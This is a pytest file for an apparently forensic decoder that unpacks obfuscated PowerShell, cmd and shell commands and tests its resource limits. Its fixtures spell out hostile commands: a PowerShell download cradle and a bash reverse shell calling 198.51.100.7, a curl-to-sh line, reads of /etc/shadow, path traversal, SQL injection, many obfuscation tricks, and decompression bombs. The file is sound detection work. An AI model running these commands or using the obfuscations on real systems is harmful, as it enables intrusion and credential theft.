"""What encoded commands decode to, and that no text, however hostile, costs more than its limits."""

from __future__ import annotations

import base64
import bz2
import gzip
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from casemate.decode import STEPS, Decoding, Form, decode
from casemate.decode.columns import ENCODED
from casemate.decode.forms import ADDRESS, ARGUMENTS, BASE64_VALUE, DOCUMENT, MESSAGE, UNIX_COMMAND, WINDOWS_COMMAND
from casemate.evidence.readers import READERS
from casemate.limits import Limits

LIMITS = Limits()
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def narrow(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def deflated(text: str) -> str:
    return base64.b64encode(zlib.compress(text.encode())[2:-4]).decode()


def hexed(text: str, form: str) -> str:
    return "".join(form.format(byte) for byte in text.encode())


WINDOWS: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "-enc": (f"powershell.exe -nop -w hidden -enc {wide(CRADLE)}", CRADLE, ("base64", "utf-16le")),
    "-e, short": (f"powershell -e {wide('whoami')}", "whoami", ("base64", "utf-16le")),
    "-ec": (f"pwsh /ec {wide(CRADLE)}", CRADLE, ("base64", "utf-16le")),
    "-EncodedCommand, quoted": (f'powershell -EncodedCommand "{wide(CRADLE)}"', CRADLE, ("base64", "utf-16le")),
    "an abbreviation between": (f"powershell -eNCodEdcOm {wide(CRADLE)}", CRADLE, ("base64", "utf-16le")),
    "another script": (f"powershell -enc {wide('Write-Host Привет')}", "Write-Host Привет", ("base64", "utf-16le")),
    "cut short": (f"powershell -enc {wide(CRADLE)[:-3]}", CRADLE[:-1], ("base64", "utf-16le")),
    "high byte first": (
        f"x {base64.b64encode(CRADLE.encode('utf-16-be')).decode()}",
        CRADLE,
        ("base64", "utf-16be"),
    ),
    "gzip": (
        f"FromBase64String('{base64.b64encode(gzip.compress(CRADLE.encode())).decode()}')",
        CRADLE,
        ("base64", "gzip"),
    ),
    "deflate": (f"DeflateStream([Convert]::FromBase64String('{deflated(CRADLE)}'))", CRADLE, ("base64", "deflate")),
    "zlib": (f"x '{base64.b64encode(zlib.compress(CRADLE.encode())).decode()}'", CRADLE, ("base64", "zlib")),
    "inside a word": (f"--blob=abc{narrow(CRADLE)}", CRADLE, ("base64",)),
    "without padding": (f"run {narrow('hello you there, world')}".rstrip("="), "hello you there, world", ("base64",)),
    "several lines": (
        "$x = @'\r\n" + "\r\n".join(narrow(CRADLE * 3)[at : at + 64] for at in range(0, 280, 64)) + "\r\n'@",
        CRADLE * 3,
        ("base64",),
    ),
    "for URLs": (
        f"get /{base64.urlsafe_b64encode(('>>>???' + CRADLE).encode()).decode()}",
        ">>>???" + CRADLE,
        ("base64",),
    ),
    "short, in quotes": ("[Convert]::FromBase64String('d2hvYW1p')", "whoami", ("base64",)),
    "hex": (f"x {hexed(CRADLE, '{:02x}')}", CRADLE, ("hex",)),
    "0x": (f"[byte[]] $b = {','.join(hexed(c, '0x{:02x}') for c in CRADLE)}", CRADLE, ("hex",)),
    "hex with dashes": ("-".join(hexed(c, "{:02X}") for c in CRADLE), CRADLE, ("hex",)),
    "char codes": (f"-join ([char[]]({','.join(str(ord(c)) for c in CRADLE)}))", CRADLE, ("char-codes",)),
    "codes in a string": (
        f"'{'z'.join(str(ord(c)) for c in CRADLE)}'.split('z') | %{{[char][int]$_}}",
        CRADLE,
        ("char-codes",),
    ),
    "codes to base 16": (
        f"'{'!'.join(f'{ord(c):x}' for c in CRADLE)}' -split '!' | %{{[char][convert]::ToInt16(($_),16)}}",
        CRADLE,
        ("char-codes",),
    ),
    "codes with xor": (
        f"[char[]]({','.join(str(ord(c) ^ 0x81) for c in CRADLE)}) | %{{[char]($_ -bxor 0x81)}}",
        CRADLE,
        ("char-codes", "xor"),
    ),
    "single characters": ("&([char]105+[char]101+[char]0x78) $a", "iex $a", ("strings",)),
    "joined": ("&('i'+'e'+'x') ('who'+'ami')", "iex 'whoami'", ("strings",)),
    "format": ("iex (\"{2}{0}{1}\" -f 'load','String','Down')", 'iex "DownloadString"', ("strings",)),
    "replace": ("iex 'wZoamQ'.Replace('Z','h').Replace('Q','i')", "iex 'whoami'", ("strings",)),
    "-replace": ("iex (('wZoami' -creplace 'Z','h'))", "iex 'whoami'", ("strings",)),
    "-join": ("iex (-join('who','ami'))", "iex 'whoami'", ("strings",)),
    "join behind": ("iex (('who','ami') -join '')", "iex 'whoami'", ("strings",)),
    "backwards": ("iex ('imaohw'[-1..-6] -join '')", "iex 'whoami'", ("strings",)),
    "members in quotes": (
        "(New-Object ('Net.Web'+'Client')).('Down'+'loadString')($u)",
        "(New-Object Net.WebClient).DownloadString($u)",
        ("strings",),
    ),
    "backticks": ("I`E`X (N`ew-Ob`ject Net.WebClient)", "IEX (New-Object Net.WebClient)", ("backticks",)),
    "carets": ("cmd /c p^o^w^e^r^shell", "cmd /c powershell", ("carets",)),
    "empty quotes": ('cmd /c po""wer""shell', "cmd /c powershell", ("carets",)),
    "parts of variables": ("cmd /c %COMSPEC:~-7,3% /c ver", "cmd /c cmd /c ver", ("variables",)),
    "set and call": ('cmd /c "set a=who&& call %a%ami"', 'cmd /c "set a=who&& call whoami"', ("variables",)),
    "percent": ("mshta javascript:%77%68%6f%61%6d%69", "mshta javascript:whoami", ("url",)),
    "unicode escapes": (r"x \u0077\u0068\u006f\u0061\u006d\u0069", "x whoami", ("unicode",)),
}
UNIX: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "echo into base64": ("echo d2hvYW1p | base64 -d | sh", "whoami", ("base64",)),
    "braces": (
        "bash -c '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}'",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        ("base64",),
    ),
    "printf": (r"printf '\x77\x68\x6f\x61\x6d\x69' | sh", "whoami", ("hex",)),
    "octal": (r"printf '\167\150\157\141\155\151' | sh", "whoami", ("octal",)),
    "ANSI-C quoting": (r"$'\x77\150\x6fami' -a", "'whoami' -a", ("quotes",)),
    "xxd": ("echo 77686f616d69 | xxd -r -p | sh", "whoami", ("hex",)),
    "quotes in words": ("w'h'o'a'mi; c\\at$IFS/etc/shadow", "whoami; cat /etc/shadow", ("quotes",)),
    "python": (f"python3 -c \"exec(base64.b64decode('{narrow('import os')}'))\"", "import os", ("base64",)),
    "rev": ("echo 'imaohw' | rev | sh", "whoami", ("reversed",)),
    "tr": ("echo jubnzv | tr a-z n-za-m | sh", "whoami", ("rot13",)),
    "fromhex": (f"python -c 'exec(bytes.fromhex(\"{hexed('import os', '{:02x}')}\"))'", "import os", ("hex",)),
}
OTHERS: dict[str, tuple[Form, str, str, tuple[str, ...]]] = {
    "container arguments": (ARGUMENTS, '["sh","-c","id \\u0026\\u0026 ls"]', "sh -c id && ls", ("arguments",)),
    "encoded container arguments": (
        ARGUMENTS,
        f'["sh","-c","echo {narrow("curl http://198.51.100.7/x")} | base64 -d | sh"]',
        "curl http://198.51.100.7/x",
        ("base64",),
    ),
    "user data": (BASE64_VALUE, narrow("#!/bin/sh\ncurl x|sh\n"), "#!/bin/sh\ncurl x|sh\n", ("base64",)),
    "user data, gzip": (
        BASE64_VALUE,
        base64.b64encode(gzip.compress(b"#!/bin/sh\nid\n")).decode(),
        "#!/bin/sh\nid\n",
        ("base64", "gzip"),
    ),
    "a secret in a request": (DOCUMENT, f'{{"data":{{"k":"{narrow(CRADLE)}"}}}}', CRADLE, ("base64",)),
    "a message": (MESSAGE, f"COMMAND=/bin/sh -c echo {narrow(CRADLE)}|base64 -d", CRADLE, ("base64",)),
    "an address": (ADDRESS, "/a?id=1%27%20or%201=1", "/a?id=1' or 1=1", ("url",)),
    "hidden dots": (ADDRESS, "/x/.%2e/.%2e/etc/passwd", "/x/../../etc/passwd", ("url",)),
}


def assert_yields(given: Decoding, text: str, steps: tuple[str, ...]) -> None:
    assert (text, steps) in {(variant.text, variant.steps) for variant in given.variants}, given


@pytest.mark.parametrize("name", WINDOWS)
def test_windows_commands(name: str) -> None:
    recorded, text, steps = WINDOWS[name]
    assert_yields(decode(recorded, WINDOWS_COMMAND, LIMITS), text, steps)


@pytest.mark.parametrize("name", UNIX)
def test_unix_commands(name: str) -> None:
    recorded, text, steps = UNIX[name]
    assert_yields(decode(recorded, UNIX_COMMAND, LIMITS), text, steps)


@pytest.mark.parametrize("name", OTHERS)
def test_other_fields(name: str) -> None:
    form, recorded, text, steps = OTHERS[name]
    assert_yields(decode(recorded, form, LIMITS), text, steps)


def test_layers_are_opened_one_by_one_and_counted() -> None:
    inner = f"powershell -enc {wide(CRADLE)}"
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    given = decode(f"cmd /c powershell -c \"FromBase64String('{packed}')\"", WINDOWS_COMMAND, LIMITS)
    assert [(one.depth, one.steps) for one in given.variants] == [
        (1, ("base64", "gzip")),
        (2, ("base64", "gzip", "base64", "utf-16le")),
    ]
    assert given.variants[-1].text == CRADLE
    assert given.limit is None


def test_a_double_escape_is_two_layers() -> None:
    given = decode("/?q=%2527%2520OR%25201", ADDRESS, LIMITS)
    assert [(one.depth, one.text) for one in given.variants] == [(1, "/?q=%27%20OR%201"), (2, "/?q=' OR 1")]


@pytest.mark.parametrize(
    ("form", "text"),
    [
        (WINDOWS_COMMAND, r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s wscsvc"),
        (
            WINDOWS_COMMAND,
            r'"C:\Program Files\Vendor\ClickToRunUpdateService.exe" {7a5bd989-6b0e-5f62-ab00-000000000300}',
        ),
        (WINDOWS_COMMAND, "git.exe checkout 4d2f9c3b8a7e6d5c4b3a29181706f5e4d3c2b1a0 --no-progress"),
        (WINDOWS_COMMAND, r"xcopy /e /y C:\Users\alice\Documents D:\Backup"),
        (WINDOWS_COMMAND, r'cmd.exe /c echo %PATH% > "%TEMP%\path.txt"'),
        (WINDOWS_COMMAND, "Get-ChildItem -Path $HOME -Recurse -ErrorAction SilentlyContinue | Sort-Object Length"),
        (UNIX_COMMAND, "/usr/lib/x86_64-linux-gnu/libexec/polkit-agent-helper-1 --some-long-option-name=value"),
        (UNIX_COMMAND, "tar -czf /var/backups/home.tar.gz --exclude=.cache /home"),
        (UNIX_COMMAND, "sha256sum -c e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
        (WINDOWS_COMMAND, "0x" + "46324632" * 6),
        (MESSAGE, "Accepted publickey for root: RSA SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8"),
        (ADDRESS, "/search?q=hello%20world&lang=en%2CDE"),
    ],
)
def test_ordinary_text_yields_nothing(form: Form, text: str) -> None:
    assert decode(text, form, LIMITS) == Decoding()


# --- limits ---------------------------------------------------------------------------------------------


def test_a_bomb_stops_at_the_limit_and_says_so() -> None:
    bomb = base64.b64encode(gzip.compress(b"A man a plan " * 8_000_000, 9)).decode()
    limits = Limits(decode_output_bytes=100_000)
    given = decode(f"FromBase64String('{bomb}')", WINDOWS_COMMAND, limits)
    assert len(given.variants) == 1
    assert len(given.variants[0].text) <= 200_000
    assert given.variants[0].limit == "100,000 bytes came out, which is the limit"


def test_a_stream_that_was_cut_says_so() -> None:
    packed = base64.b64encode(gzip.compress(CRADLE.encode() * 20 + bytes(range(32, 120)) * 9)[:-30]).decode()
    given = decode(f"FromBase64String('{packed}')", WINDOWS_COMMAND, LIMITS)
    assert given.variants[0].text.startswith(CRADLE)
    assert given.variants[0].limit == "stream cut short"


def test_layers_beyond_the_limit_are_told() -> None:
    text = CRADLE
    for _ in range(9):
        text = f"powershell -enc {wide(text)}"
    given = decode(text, WINDOWS_COMMAND, Limits(decode_depth=3))
    assert max(one.depth for one in given.variants) == 3
    assert given.limit == "3 layers were opened, which is the limit"


def test_more_texts_than_the_limit_are_told() -> None:
    many = " ".join(narrow(f"this is the text number {number}") for number in range(50))
    given = decode(many, WINDOWS_COMMAND, Limits(decode_texts=10))
    assert len(given.variants) == 10
    assert given.limit == "10 texts came out, which is the limit"


def test_only_the_beginning_of_a_huge_text_is_looked_at_and_that_is_told() -> None:
    given = decode(
        f"{narrow(CRADLE)} {' ' * 5000} {narrow('something else, later')}",
        UNIX_COMMAND,
        Limits(decode_input_characters=1000),
    )
    assert [one.text for one in given.variants] == [CRADLE]
    assert given.limit == "only the first 1,000 characters were looked at"


HOSTILE = [
    "A" * 20 + '`"' * 50_000,
    "'a'+" * 40_000,
    "('" * 40_000,
    "'a'," * 40_000 + "'b'+'c'",
    '"{0}{0}{0}{0}" -f ' * 2_000 + "'a'",
    "'" + "aZ" * 20_000 + "'" + ".Replace('Z','ZZ')" * 200,
    "set a=%a%%a%%a%& " * 3_000 + "%a%" * 3_000,
    "%" * 100_000 + "41" * 50_000,
    "1," * 100_000 + " [char]",
    "12" + " " * 100_000 + "12 12 12 [char]",
    "0x41 " * 50_000,
    "aB3/" * 60_000,
    "aB3d-" * 60_000,
    "41" * 100_000,
    "41-" * 60_000,
    "-enc " * 30_000 + "QQBB" * 10,
    "base64 '" + "aGVsbG8g' '" * 20_000,
    "-join " + " " * 100_000 + "x 'a','b'",
    "'abc' " + ")" * 50_000 + " -f 'x'",
    "[char]65+" * 30_000,
    "['" + "a" * 100_000 + "'" + "[-1..-9]" * 1_000,
    "\\x41" * 60_000,
    "%u0041" * 40_000,
    '["' + "a" * 100_000 + '",' + '"b",' * 50_000 + '"c"]',
    "\r\n".join(["QUJD" * 16] * 4_000),
]


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_hostile_text_costs_little(number: int) -> None:
    begun = time.process_time()
    for form in (WINDOWS_COMMAND, UNIX_COMMAND, ARGUMENTS, ADDRESS):
        given = decode(HOSTILE[number], form, LIMITS)
        assert sum(len(one.text) for one in given.variants) <= 3 * LIMITS.decode_output_bytes
    assert time.process_time() - begun < 8


@pytest.mark.parametrize(
    "fragment", ["'a'+", "('b').", '"{0}" -f ', "[char]6", "%25", "aB3/", "-e QQ ", "`'\"", "\\x4", "^a"]
)
def test_twice_the_text_takes_about_twice_as_long(fragment: str) -> None:
    def spent(text: str) -> float:
        begun = time.process_time()
        decode(text, WINDOWS_COMMAND, LIMITS)
        return time.process_time() - begun

    spent(fragment)
    once, eight = spent(fragment * 2_000), spent(fragment * 16_000)
    assert eight < 0.3 + 24 * once


MARKS = "'\"`+-()[]{},;|&^%$\\/= \r\n"
OPERATORS = (
    "-f ",
    "-join",
    "[char]",
    "-replace",
    ".Replace(",
    "[-1..-3]",
    "echo ",
    "| rev",
    "-enc ",
    "base64 -d",
    "{0}",
)
ENCODED_PIECES = (narrow(CRADLE), wide("whoami /all"), deflated(CRADLE), "73,69,88,32", "0x41", "\\x41", "%41", "%25")
OTHER_PIECES = ("%COMSPEC:~0,3%", "set a=b&", "%a%", "$'\\x41'", "['a'", "é", "\ud800", "\0", "😀", '["a","b"]')
PIECES = st.sampled_from([*MARKS, *OPERATORS, *ENCODED_PIECES, *OTHER_PIECES])


@settings(max_examples=150, deadline=None)
@given(
    st.lists(PIECES, max_size=40).map("".join),
    st.sampled_from([WINDOWS_COMMAND, UNIX_COMMAND, ARGUMENTS, ADDRESS, BASE64_VALUE]),
)
def test_any_text_decodes_within_limits_and_always_to_the_same(text: str, form: Form) -> None:
    limits = Limits(decode_texts=20, decode_depth=3, decode_output_bytes=20_000, decode_tries=300)
    given = decode(text, form, limits)
    assert given == decode(text, form, limits)
    assert len(given.variants) <= 20
    assert len({one.text for one in given.variants} | {text}) == len(given.variants) + 1
    for one in given.variants:
        assert 1 <= one.depth <= 3
        assert one.steps
        assert set(one.steps) <= set(STEPS)
        assert len(one.text) <= 60_000


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Co", "Cn")), min_size=6, max_size=120))
def test_every_encoded_command_comes_back(text: str) -> None:
    given = decode(f"powershell -enc {wide(text)}", WINDOWS_COMMAND, LIMITS)
    if sum(map(str.isalnum, text[:64])) >= 2 and len(set(text[:64])) >= 3 and text.isprintable():
        assert text in {one.text for one in given.variants}


@settings(max_examples=60, deadline=None)
@given(st.binary(min_size=0, max_size=400))
def test_bytes_that_are_no_text_are_not_shown_as_text(data: bytes) -> None:
    given = decode(f"FromBase64String('{base64.b64encode(bz2.compress(data)).decode()}')", WINDOWS_COMMAND, LIMITS)
    assert all(sum(map(str.isprintable, one.text)) * 10 >= 9 * len(one.text.strip()) for one in given.variants)


# --- tables ---------------------------------------------------------------------------------------------


def test_every_encoded_field_is_a_column_of_its_table() -> None:
    columns = {table.name: {name.lower() for name in table.columns} for reader in READERS for table in reader.tables}
    for table, fields in ENCODED.items():
        for field in fields:
            assert (field.source or field.name).lower() in columns[table], (table, field.name)
